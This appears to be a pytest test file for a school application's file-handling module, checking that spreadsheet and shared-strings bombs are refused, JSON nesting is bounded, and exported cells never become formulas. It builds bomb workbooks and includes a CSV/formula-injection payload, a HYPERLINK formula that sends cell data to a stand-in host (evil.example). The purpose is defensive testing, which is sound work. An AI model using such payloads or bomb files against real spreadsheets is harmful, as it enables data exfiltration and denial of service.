"""The one bounded reader and the one safe writer (issue 11): spreadsheet bombs are refused or read for what
they hold, JSON nesting is bounded, exported strings never become formulas, and no other module opens or
creates workbooks itself."""

import io
import json
import re
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from zhijiao.core.files import (
    MAX_JSON_DEPTH,
    UnreadableFile,
    append_row,
    new_workbook,
    read_json,
    read_xlsx,
    workbook_bytes,
)


def _xlsx(rows) -> bytes:
    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _rewrite(content: bytes, member: str, change) -> bytes:
    """The same workbook with one member's XML changed (or added, `change(b"")`)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info.filename, change(data) if info.filename == member else data)
        if member not in src.namelist():
            dst.writestr(member, change(b""))
    return out.getvalue()


def test_a_sheet_claiming_far_more_cells_than_it_holds_is_read_for_what_it_holds():
    small = _xlsx([["姓名", "学号"], ["王小明", "G1"], ["李小红", "G2"]])
    bomb = _rewrite(small, "xl/worksheets/sheet1.xml",
                    lambda x: re.sub(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:XFD8000"/>', x))
    assert len(bomb) < 10_000
    tracemalloc.start()
    try:
        [(title, rows)] = read_xlsx(bomb, max_rows=100)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert rows == [("姓名", "学号"), ("王小明", "G1"), ("李小红", "G2")]
    assert peak < 20 * 1024 * 1024  # openpyxl padded every row to 16,384 columns: 1.26 GB


def test_a_row_far_down_the_sheet_counts_the_empty_rows_before_it():
    small = _xlsx([["姓名"], ["王小明"]])
    far = _rewrite(small, "xl/worksheets/sheet1.xml",
                   lambda x: x.replace(b'<row r="2"', b'<row r="1000000"').replace(b'r="A2"', b'r="A1000000"'))
    with pytest.raises(UnreadableFile, match="超过 500 行"):
        read_xlsx(far, max_rows=501)


def test_a_shared_strings_bomb_is_refused_before_it_is_parsed():
    small = _xlsx([["姓名"], ["王小明"]])
    filler = b"<si><t>" + b"a" * 1000 + b"</t></si>"
    bomb = _rewrite(small, "xl/sharedStrings.xml",
                    lambda _x: b"<sst>" + filler * 70_000 + b"</sst>")  # 71 MB of XML
    assert len(bomb) < 1_000_000
    with pytest.raises(UnreadableFile, match="解压后超过"):
        read_xlsx(bomb, max_rows=100)


def test_more_rows_than_allowed_is_refused_with_the_sheet_named():
    content = _xlsx([["题干"]] + [[f"第 {i} 题"] for i in range(30)])
    with pytest.raises(UnreadableFile, match="Sheet.*超过 20 行"):
        read_xlsx(content, max_rows=21)
    assert len(read_xlsx(content, max_rows=31)[0][1]) == 31


@pytest.mark.parametrize("content", [b"", b"not a zip", b"PK\x03\x04broken", _xlsx([["a"]])[:200]])
def test_what_is_not_a_workbook_gets_a_message_not_an_exception(content):
    with pytest.raises(UnreadableFile, match="无法读取 Excel 文件"):
        read_xlsx(content, max_rows=10)


def test_json_nesting_is_bounded_shallow_and_deep():
    def nested(n):
        return "[" * n + "1" + "]" * n

    assert read_json(nested(MAX_JSON_DEPTH)) is not None
    for depth in (MAX_JSON_DEPTH + 1, 500, 3000, 100_000):
        with pytest.raises(UnreadableFile, match="嵌套超过"):
            read_json(nested(depth))
    with pytest.raises(UnreadableFile, match="嵌套超过"):
        read_json('{"a":' * 40 + "1" + "}" * 40)
    with pytest.raises(UnreadableFile, match="第 1 行"):
        read_json(b'{"a": }')
    with pytest.raises(UnreadableFile, match="UTF-8"):
        read_json(b'"\xff"')
    assert read_json("\ufeff{\"题\": [1, 2]}".encode()) == {"题": [1, 2]}

    # Read by orjson or, for what it refuses or would read inexactly, the standard library: the same answers.
    for body in ('{"n": 18446744073709551617}', '[-9223372036854775809, 1e2, 0.1, "x\\u00e9"]'):
        assert read_json(body) == read_json(body.encode()) == json.loads(body)
    assert read_json(b'{"a": 1, "a": 2}') == {"a": 2}  # a repeated key: the last one, as before
    for body in (b'{"a": "\\u0000"}', '["\\u0000"]'):
        with pytest.raises(UnreadableFile, match="NUL"):
            read_json(body)
    for body, reason in ((b"[NaN]", "不是 JSON 的值"), (b"[1e999]", "超出范围"), (b'["\\ud800"]', "代理项")):
        with pytest.raises(UnreadableFile, match=reason):
            read_json(body)


@pytest.mark.parametrize("write_only", [False, True])
def test_exported_strings_never_become_formulas(write_only):
    wb = new_workbook(write_only=write_only)
    ws = wb.create_sheet("名单") if write_only else wb.active
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    append_row(ws, ["姓名", "初始密码"])
    append_row(ws, [evil, "Zx82-k9"])
    append_row(ws, ["=1+1", 3, None, "+86 138", "@SUM(A1)"])
    content = workbook_bytes(wb)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in z.read(n) for n in sheets)  # no formula element anywhere
    loaded = load_workbook(io.BytesIO(content))
    cells = [c for row in loaded.worksheets[-1].iter_rows() for c in row]
    assert [c.value for c in cells if c.value is not None][2:4] == [evil, "Zx82-k9"]
    assert all(c.data_type != "f" for c in cells)


def test_no_module_opens_or_creates_workbooks_but_the_one_reader_and_writer():
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root)
        if "tests" in rel.parts or rel.as_posix() == "core/files.py" or "migrations" in rel.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"from openpyxl import|openpyxl\.(load_workbook|Workbook)|json\.loads?\(", text):
            for n, line in enumerate(text.splitlines(), 1):
                if re.search(r"from openpyxl import|openpyxl\.(load_workbook|Workbook)|json\.loads?\(", line):
                    offenders.append(f"{rel}:{n}: {line.strip()}")
    allowed = {  # our own files, never a user's
        "catalog/actions.py": "DATA_DIR", "records/trail.py": "json.loads(raw)",
        "search/tantivy_backend.py": "stored.get_first", "accounts/roster_actions.py": "meta.json",
    }
    left = [o for o in offenders if not any(o.startswith(f) and mark in o for f, mark in allowed.items())]
    assert left == []
